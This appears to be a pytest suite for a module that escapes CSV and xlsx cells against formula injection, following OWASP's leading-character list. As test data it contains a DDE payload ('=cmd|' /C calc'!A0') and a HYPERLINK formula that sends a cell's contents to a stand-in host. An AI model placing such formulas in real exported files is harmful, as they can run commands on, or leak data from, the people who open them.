"""The rule for cells that a spreadsheet shows and never runs (OWASP, CSV injection).

OWASP lists the leading characters that start a formula in Excel, LibreOffice or Sheets: ``=``, ``+``, ``-``,
``@``, tab (0x09) and carriage return (0x0D) (https://owasp.org/www-community/attacks/CSV_Injection).
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from tanfeng.cells import FORMULA_LEADS, csv_row, csv_safe, starts_like_formula, xlsx_safe, xlsx_text

LEADS = ["=", "+", "-", "@", "\t", "\r"]
CMD = "=cmd|' /C calc'!A0"
AT = "@SUM(1+1)"


def test_the_leads_are_owasps() -> None:
    assert sorted(FORMULA_LEADS) == sorted(LEADS)


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_csv_quotes_text_that_starts_with_each_lead(lead: str) -> None:
    text = lead + "HYPERLINK(\"http://example.invalid/?x=\"&A2)"
    assert starts_like_formula(text)
    assert csv_safe(text) == "'" + text


@pytest.mark.parametrize("value", [-5, -0.25, 3, 1e-9, -1.5e308, 0, None, True, "", "呼和浩特市", "单位GDP能耗",
                                   "a=b", " =1", "'=already quoted", "-5", "+1.5", "-1.5e-05", "-.5"], ids=repr)
def test_numbers_and_ordinary_text_are_unchanged(value: object) -> None:
    assert csv_safe(value) == value
    assert csv_safe(value) is value


@pytest.mark.parametrize("text", ["-", "-inf", "-5%", "+86 471", "--1", "-1-1", "=1", "@a"], ids=repr)
def test_text_that_is_not_only_a_number_is_quoted(text: str) -> None:
    assert csv_safe(text) == "'" + text


def test_a_csv_row_reads_back_quoted() -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow(csv_row([CMD, AT, -12.5, "鄂尔多斯市"]))
    back = next(csv.reader(io.StringIO(buf.getvalue())))
    assert back == ["'" + CMD, "'" + AT, "-12.5", "鄂尔多斯市"]


def _saved(wb: Workbook) -> Workbook:
    buf = io.BytesIO()
    wb.save(buf)
    return load_workbook(io.BytesIO(buf.getvalue()))


def test_openpyxl_alone_writes_a_formula() -> None:
    """The control: without the rule, the text comes back as a formula cell."""
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([CMD])
    back = _saved(wb).active
    assert back is not None
    assert back["A1"].data_type == "f"


@pytest.mark.parametrize("lead", LEADS, ids=repr)
def test_xlsx_keeps_the_text_as_text(lead: str) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append([lead + "SUM(1+1)", CMD, -7, 2.5, "普通文本"])
    ws.cell(3, 2, AT)
    second = wb.create_sheet("二")
    second.append([CMD])
    back = _saved(xlsx_safe(wb))
    cells = [c for s in back.worksheets for row in s.iter_rows() for c in row if c.value is not None]
    assert [c.data_type for c in cells] == ["s", "s", "n", "n", "s", "s", "s"]
    assert [c.value for c in cells] == [lead + "SUM(1+1)", CMD, -7, 2.5, "普通文本", AT, CMD]
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in LEADS)
    assert not any(c.quotePrefix for c in cells if c.value == "普通文本")


def test_xlsx_text_on_one_cell() -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    cell = xlsx_text(ws.cell(1, 1, CMD))
    assert (cell.data_type, cell.value) == ("s", CMD)
